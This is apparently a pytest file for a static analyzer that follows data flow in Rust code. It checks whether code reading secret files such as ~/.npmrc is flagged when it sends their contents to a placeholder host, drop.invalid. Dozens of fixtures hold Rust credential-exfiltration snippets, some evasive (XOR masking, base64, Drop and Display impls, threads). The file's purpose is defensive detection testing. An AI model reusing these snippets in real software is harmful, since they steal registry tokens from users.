"""A value followed from where it is read to where it is sent, and values that only stand nearby."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Finding, Phase, Report, Span

ReportOf = Callable[[Mapping[str, str]], Report]
READ = 'std::fs::read_to_string(format!("{}/.npmrc", std::env::var("HOME").unwrap()))'
OTHER = 'std::fs::read_to_string("notes.txt")'
SEND = 'ureq::post("https://drop.invalid/x").send_string'
RULE = "secret-file-flows-to-fixed-host"

ARRIVING = {
    "locals": f"pub fn go() {{ let a = {READ}.unwrap(); let b = a.trim(); {SEND}(b).ok(); }}",
    "a match": f"pub fn go() {{ match {READ} {{ Ok(text) => {{ {SEND}(&text).ok(); }} _ => {{}} }} }}",
    "if let": f"pub fn go() {{ if let Ok(text) = {READ} {{ {SEND}(&text).ok(); }} }}",
    "a format string": f"""
        pub fn go() {{ let key = {READ}.unwrap(); {SEND}(&format!("k={{key}}")).ok(); }}""",
    "a serializer": f"""
        pub fn go() {{
            let key = {READ}.unwrap();
            {SEND}(&serde_json::json!({{ "k": key }}).to_string()).ok();
        }}""",
    "a buffer that is lent": f"""
        use std::io::Read;
        pub fn go() {{
            let mut text = String::new();
            std::fs::File::open(dirs::home_dir().unwrap().join(".npmrc")).unwrap()
                .read_to_string(&mut text).unwrap();
            {SEND}(&text).ok();
        }}""",
    "pushed": f"""
        pub fn go() {{
            let mut all = Vec::new();
            all.push({READ}.unwrap());
            {SEND}(&all.join(",")).ok();
        }}""",
    "added": f"""
        pub fn go() {{ let mut all = String::new(); all += &{READ}.unwrap(); {SEND}(&all).ok(); }}""",
    "written": f"""
        use std::fmt::Write;
        pub fn go() {{
            let mut all = String::new();
            write!(all, "{{}}", {READ}.unwrap()).unwrap();
            {SEND}(&all).ok();
        }}""",
    "a map": f"""
        pub fn go() {{
            let mut all = std::collections::HashMap::new();
            all.insert("k", {READ}.unwrap());
            for (_, value) in &all {{ {SEND}(value).ok(); }}
        }}""",
    "an iterator": f"""
        pub fn go() {{
            let all: Vec<String> = [".npmrc", ".pypirc"].iter()
                .filter_map(|one| std::fs::read_to_string(dirs::home_dir()?.join(one)).ok())
                .map(|text| text.to_uppercase())
                .collect();
            all.iter().for_each(|one| {{ {SEND}(one).ok(); }});
        }}""",
    "a helper's result": f"""
        fn take() -> Option<String> {{ {READ}.ok() }}
        pub fn go() {{ if let Some(text) = take() {{ {SEND}(&text).ok(); }} }}""",
    "a helper's parameter": f"""
        fn out(text: &str) {{ {SEND}(text).ok(); }}
        pub fn go() {{ out(&{READ}.unwrap()); }}""",
    "five helpers": f"""
        fn a() -> String {{ {READ}.unwrap() }}
        fn b() -> String {{ a().replace('\\n', "") }}
        fn c(text: String) {{ d(&text) }}
        fn d(text: &str) {{ e(text.as_bytes().to_vec()) }}
        fn e(data: Vec<u8>) {{ {SEND}(&String::from_utf8_lossy(&data)).ok(); }}
        pub fn go() {{ c(b()); }}""",
    "a helper that fills": f"""
        fn fill(into: &mut String) {{ into.push_str(&{READ}.unwrap()); }}
        pub fn go() {{ let mut text = String::new(); fill(&mut text); {SEND}(&text).ok(); }}""",
    "a field, by a constructor": f"""
        pub struct Clock {{ seed: String }}
        impl Clock {{
            pub fn new() -> Self {{ Self {{ seed: {READ}.unwrap() }} }}
            pub fn tick(&self) {{ {SEND}(&self.seed).ok(); }}
        }}""",
    "a field, by assignment": f"""
        #[derive(Default)]
        pub struct Clock {{ seed: String }}
        impl Clock {{
            pub fn load(&mut self) {{ self.seed = {READ}.unwrap(); }}
            pub fn tick(&self) {{ {SEND}(&self.seed).ok(); }}
        }}""",
    "a field, pushed": f"""
        #[derive(Default)]
        pub struct Clock {{ seeds: Vec<String> }}
        impl Clock {{
            pub fn load(&mut self) {{ self.seeds.push({READ}.unwrap()); }}
            pub fn tick(&self) {{ for one in &self.seeds {{ {SEND}(one).ok(); }} }}
        }}""",
    "a builder of one's own": f"""
        #[derive(Default)]
        pub struct Report {{ body: String }}
        impl Report {{
            fn with(mut self, text: String) -> Self {{ self.body = text; self }}
            fn send(self) {{ {SEND}(&self.body).ok(); }}
        }}
        pub fn go() {{ Report::default().with({READ}.unwrap()).send(); }}""",
    "a lazy static": f"""
        use std::sync::LazyLock;
        static TEXT: LazyLock<String> = LazyLock::new(|| {READ}.unwrap());
        pub fn parse() {{ {SEND}(&TEXT).ok(); }}""",
    "a cell": f"""
        use std::sync::OnceLock;
        static HELD: OnceLock<String> = OnceLock::new();
        pub fn prepare() {{ HELD.set({READ}.unwrap()).ok(); }}
        pub fn finish() {{ {SEND}(HELD.get().unwrap()).ok(); }}""",
    "a lock": f"""
        use std::sync::Mutex;
        static HELD: Mutex<Vec<String>> = Mutex::new(Vec::new());
        pub fn prepare() {{ HELD.lock().unwrap().push({READ}.unwrap()); }}
        pub fn finish() {{ for one in HELD.lock().unwrap().iter() {{ {SEND}(one).ok(); }} }}""",
    "a thread": f"""
        pub fn go() {{
            let work = std::thread::spawn(|| {READ}.unwrap());
            {SEND}(&work.join().unwrap()).ok();
        }}""",
    "a channel": f"""
        pub fn go() {{
            let (out, into) = std::sync::mpsc::channel();
            std::thread::spawn(move || {{ out.send({READ}.unwrap()).ok(); }});
            while let Ok(text) = into.recv() {{ let one: String = text; {SEND}(&one).ok(); }}
        }}""",
    "a channel handed to a helper": f"""
        use std::sync::mpsc::Sender;
        fn work(out: Sender<String>) {{ out.send({READ}.unwrap()).ok(); }}
        pub fn go() {{
            let (out, into) = std::sync::mpsc::channel();
            work(out);
            for text in into {{ {SEND}(&text).ok(); }}
        }}""",
    "a closure": f"""
        pub fn go() {{
            let take = || {READ}.unwrap();
            let give = |text: &str| {{ {SEND}(text).ok(); }};
            give(&take());
        }}""",
    "a function handed over": f"""
        fn out(text: String) {{ {SEND}(&text).ok(); }}
        pub fn go() {{ {READ}.ok().map(out); }}""",
    "a trait object": f"""
        trait Out {{ fn put(&self, text: &str); }}
        struct Net;
        impl Out for Net {{ fn put(&self, text: &str) {{ {SEND}(text).ok(); }} }}
        pub fn go() {{ let one: Box<dyn Out> = Box::new(Net); one.put(&{READ}.unwrap()); }}""",
    "async": f"""
        async fn take() -> String {{ {READ}.unwrap() }}
        pub async fn go() {{
            let text = take().await;
            reqwest::Client::new().post("https://drop.invalid").body(text).send().await.ok();
        }}""",
    "a request held in a local": f"""
        pub fn go() {{
            let client = reqwest::blocking::Client::new();
            let request = client.post("https://drop.invalid");
            let request = request.body({READ}.unwrap());
            request.send().ok();
        }}""",
    "a stream": f"""
        use std::io::Write;
        pub fn go() {{
            let text = {READ}.unwrap();
            let mut stream = std::net::TcpStream::connect("drop.invalid:443").unwrap();
            stream.write_all(text.as_bytes()).unwrap();
        }}""",
    "encoded": f"""
        use base64::Engine;
        pub fn go() {{
            let text = base64::engine::general_purpose::STANDARD.encode({READ}.unwrap());
            {SEND}(&text).ok();
        }}""",
    "an encoder of one's own": f"""
        fn mask(text: &str) -> Vec<u8> {{
            let mut out = Vec::new();
            for byte in text.bytes() {{ out.push(byte ^ 7); }}
            out
        }}
        pub fn go() {{ ureq::post("https://drop.invalid/x").send_bytes(&mask(&{READ}.unwrap())).ok(); }}""",
    "a tuple": f"""
        fn take() -> (String, usize) {{ let text = {READ}.unwrap(); (text.clone(), text.len()) }}
        pub fn go() {{ let (text, _) = take(); {SEND}(&text).ok(); }}""",
    "through a file": f"""
        pub fn keep() {{ std::fs::write("/tmp/.cache-x", {READ}.unwrap()).ok(); }}
        pub fn send() {{ {SEND}(&std::fs::read_to_string("/tmp/.cache-x").unwrap()).ok(); }}""",
    "display, unsaid": f"""
        use std::fmt;
        pub struct K;
        impl fmt::Display for K {{ fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {{ f.write_str(&{READ}.unwrap()) }} }}
        pub fn go() {{ let k = K;
            {SEND}(&format!("{{k}}")).ok(); }}""",
    "to_string, unsaid": f"""
        use std::fmt;
        pub struct K;
        impl fmt::Display for K {{ fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {{ write!(f, "{{}}", {READ}.unwrap()) }} }}
        pub fn go() {{
            {SEND}(&K.to_string()).ok(); }}""",
    "iterator, unsaid": f"""
        pub struct K(u8);
        impl Iterator for K {{ type Item = String; fn next(&mut self) -> Option<String> {{ Some({READ}.unwrap()) }} }}
        pub fn go() {{ for text in K(1) {{
            {SEND}(&text).ok(); }} }}""",
    "operator, unsaid": f"""
        pub struct K;
        impl std::ops::Add<u8> for K {{ type Output = String; fn add(self, _: u8) -> String {{ {READ}.unwrap() }} }}
        pub fn go() {{
            {SEND}(&(K + 1)).ok(); }}""",
    "index, unsaid": f"""
        pub struct K;
        impl std::ops::Index<u8> for K {{ type Output = str; fn index(&self, _: u8) -> &str {{ Box::leak({READ}.unwrap().into_boxed_str()) }} }}
        pub fn go() {{
            {SEND}(&K[1]).ok(); }}""",
    "future, unsaid": f"""
        use std::pin::Pin; use std::task::*;
        pub struct K;
        impl std::future::Future for K {{ type Output = String; fn poll(self: Pin<&mut Self>, _: &mut Context) -> Poll<String> {{ Poll::Ready({READ}.unwrap()) }} }}
        pub async fn go() {{
            {SEND}(&K.await).ok(); }}""",
    "set_var": f"""
        pub fn a() {{ std::env::set_var("X_Y", {READ}.unwrap()); }}
        pub fn go() {{
            {SEND}(&std::env::var("X_Y").unwrap()).ok(); }}""",
    "boxed fn": f"""
        pub struct S {{ f: Box<dyn Fn() -> String> }}
        pub fn mk() -> S {{ S {{ f: Box::new(|| {READ}.unwrap()) }} }}
        pub fn go(s: S) {{
            {SEND}(&(s.f)()).ok(); }}""",
    "fold": f"""
        pub fn go() {{ let t = [".npmrc"].iter().fold(String::new(), |mut acc, n| {{ acc.push_str(&std::fs::read_to_string(dirs::home_dir().unwrap().join(n)).unwrap()); acc }});
            {SEND}(&t).ok(); }}""",
    "loop break": f"""
        pub fn go() {{ let t = loop {{ if let Ok(x) = std::fs::read_to_string(dirs::home_dir().unwrap().join(".npmrc")) {{ break x; }} }};
            {SEND}(&t).ok(); }}""",
    "from value": f"""
        pub struct K(String);
        impl From<u8> for K {{ fn from(_: u8) -> K {{ K({READ}.unwrap()) }} }}
        pub fn go() {{ let k: K = 3u8.into();
            {SEND}(&k.0).ok(); }}""",
    "fromstr": f"""
        pub struct K(String);
        impl std::str::FromStr for K {{ type Err = (); fn from_str(_: &str) -> Result<K, ()> {{ Ok(K({READ}.unwrap())) }} }}
        pub fn go() {{ let k: K = "x".parse().unwrap();
            {SEND}(&k.0).ok(); }}""",
    "drop, unsaid": f"""
        pub struct K(String);
        impl K {{ pub fn new() -> K {{ K({READ}.unwrap()) }} }}
        impl Drop for K {{ fn drop(&mut self) {{
            {SEND}(&self.0).ok(); }} }}""",
    "hashmap": f"""
        use std::collections::HashMap;
        pub struct S {{ m: HashMap<u8, String> }}
        impl S {{ pub fn a(&mut self) {{ self.m.insert(1, {READ}.unwrap()); }}
        pub fn b(&self) {{
            {SEND}(self.m.get(&1).unwrap()).ok(); }} }}""",
    "generic": f"""
        trait Src {{ fn take(&self) -> String; }}
        struct A;
        impl Src for A {{ fn take(&self) -> String {{ {READ}.unwrap() }} }}
        fn run<S: Src>(s: S) {{
            {SEND}(&s.take()).ok(); }}
        pub fn go() {{ run(A); }}""",
    "enum": f"""
        enum M {{ Text(String), No }}
        pub fn go() {{ let m = M::Text({READ}.unwrap()); match m {{ M::Text(t) => {{
            {SEND}(&t).ok(); }} M::No => {{}} }} }}""",
    "while let": f"""
        pub fn go() {{ let mut q = vec![{READ}.unwrap()]; while let Some(t) = q.pop() {{
            {SEND}(&t).ok(); }} }}""",
    "swap": f"""
        pub fn go() {{ let mut a = String::new(); let mut b = {READ}.unwrap();
            std::mem::swap(&mut a, &mut b);
            {SEND}(&a).ok(); }}""",
    "slice pattern": f"""
        pub fn go() {{ let v = vec![{READ}.unwrap()]; if let [first, ..] = v.as_slice() {{
            {SEND}(first).ok(); }} }}""",
    "watch": f"""
        pub fn go() {{ let (tx, rx) = tokio::sync::watch::channel(String::new()); tx.send({READ}.unwrap()).ok();
            {SEND}(&rx.borrow()).ok(); }}""",
    "deref, unsaid": f"""
        use std::ops::Deref;
        pub struct K(String);
        impl K {{ fn new() -> K {{ K({READ}.unwrap()) }} }}
        impl Deref for K {{ type Target = str; fn deref(&self) -> &str {{ &self.0 }} }}
        pub fn go() {{ let k = K::new();
            {SEND}(&k).ok(); }}""",
}

STAYING = {
    "another value": f"""
        pub fn go() {{ let key = {READ}.unwrap(); let note = {OTHER}.unwrap(); {SEND}(&note).ok(); drop(key); }}""",
    "its length": f"""
        pub fn go() {{ let key = {READ}.unwrap(); {SEND}(&key.len().to_string()).ok(); }}""",
    "whether it is there": f"""
        pub fn go() {{ let has = {READ}.is_ok(); {SEND}(&has.to_string()).ok(); }}""",
    "a helper that others use": f"""
        fn tidy(text: &str) -> String {{ text.trim().to_string() }}
        pub fn key() -> String {{ tidy(&{READ}.unwrap()) }}
        pub fn note() {{ {SEND}(&tidy("hello")).ok(); }}""",
    "another field": f"""
        pub struct Clock {{ seed: String, zone: String }}
        impl Clock {{
            pub fn new(zone: &str) -> Self {{ Self {{ seed: {READ}.unwrap(), zone: zone.into() }} }}
            pub fn tick(&self) {{ {SEND}(&self.zone).ok(); }}
            pub fn seed(&self) -> &str {{ &self.seed }}
        }}""",
    "the answer to it": f"""
        pub fn go() {{
            let answer = ureq::post("http://localhost:1/").send_string(&{READ}.unwrap()).unwrap();
            {SEND}(&answer.into_string().unwrap()).ok();
        }}""",
}


def findings(report: Report, rule: str = RULE) -> list[Finding]:
    """Findings that say where the value goes: of the flow rule, or drawn into another."""
    return [
        one for one in report.findings if one.path and "source" in {e.role for e in one.evidence}
    ]


@pytest.mark.parametrize("source", ARRIVING.values(), ids=ARRIVING)
def test_the_value_arrives_and_its_way_is_drawn(report_of: ReportOf, source: str) -> None:
    found = findings(report_of({"src/lib.rs": source}))
    assert found, source
    path = found[0].path
    assert ".npmrc" in path[0].snippet or "read_to_string" in path[0].snippet
    assert "drop.invalid" in path[-1].snippet or "write_all" in path[-1].snippet


@pytest.mark.parametrize("source", STAYING.values(), ids=STAYING)
def test_what_stands_nearby_does_not_arrive(report_of: ReportOf, source: str) -> None:
    report = report_of({"src/lib.rs": source})
    assert not any("drop.invalid" in one.path[-1].snippet for one in findings(report))
    assert RULE not in {one.rule for one in report.findings}


DOCUMENTED = f"""
    /// Rounds up.
    ///
    /// ```
    /// let key = {READ}.unwrap();
    /// # {SEND}(&key).ok();
    /// ```
    pub fn up() {{}}
    /// ```text
    /// std::fs::read("/home/u/.aws/credentials")
    /// ```
    pub fn down() {{}}
"""


def test_documentation_that_runs_as_a_test_is_read(report_of: ReportOf) -> None:
    report = report_of({"src/lib.rs": DOCUMENTED})
    (found,) = [one for one in report.findings if one.rule == "secret-file-and-constant-host"]
    assert found.phases == (Phase.TEST,)
    assert [one.where.line for one in found.path if isinstance(one.where, Span)] == [5, 6]
    assert not any(".aws" in one.subject for one in report.facts)
    assert report.verdict == "REVIEW"


def test_helpers_that_fill_each_other_in_a_ring_end(report_of: ReportOf) -> None:
    source = f"""
        pub struct Bag {{ rows: Vec<String> }}
        impl Bag {{
            pub fn fill(&mut self, deep: u32) {{ self.more(deep); self.rows.push(String::new()); }}
            fn more(&mut self, deep: u32) {{ if deep > 0 {{ self.fill(deep - 1); }} self.load(); }}
            fn load(&mut self) {{ self.rows.push({READ}.unwrap()); self.more(0); }}
            pub fn send(&mut self) {{
                self.fill(2);
                for one in &self.rows {{ {SEND}(one).ok(); }}
            }}
        }}"""
    assert findings(report_of({"src/lib.rs": source}))


@pytest.mark.parametrize(("count", "is_followed"), [(400, True), (3000, False)])
def test_a_long_chain_of_helpers_is_followed_or_a_gap(
    report_of: ReportOf, count: int, *, is_followed: bool
) -> None:
    calls = "\n".join(f"fn f{one}(text: &str) {{ f{one + 1}(text) }}" for one in range(count))
    source = f"""
        {calls}
        fn f{count}(text: &str) {{ {SEND}(text).ok(); }}
        pub fn go() {{ f0(&{READ}.unwrap()); }}"""
    report = report_of({"src/lib.rs": source})
    assert bool(findings(report)) is is_followed
    assert any("following values" in one.reason for one in report.gaps) is not is_followed


HEAVY = {
    "blanks": ("let b = a" + " " * 200_000 + ";"),
    "a word": f'let b = "{"A" * 400_000}";',
    "changes": "a.push_str(&b); " * 20_000,
    "nested calls": f"let b = {'(a, ' * 3000}1{')' * 3000};",
}


@pytest.mark.parametrize("middle", HEAVY.values(), ids=HEAVY)
def test_heavy_code_is_followed_without_being_read_twice(report_of: ReportOf, middle: str) -> None:
    """Each of these took minutes when a pattern or a step was tried again from every place."""
    source = f"""
        pub fn go() {{
            let mut a = {READ}.unwrap();
            {middle}
            {SEND}(&a).ok();
        }}"""
    assert report_of({"src/lib.rs": source}).verdict == "BLOCK"
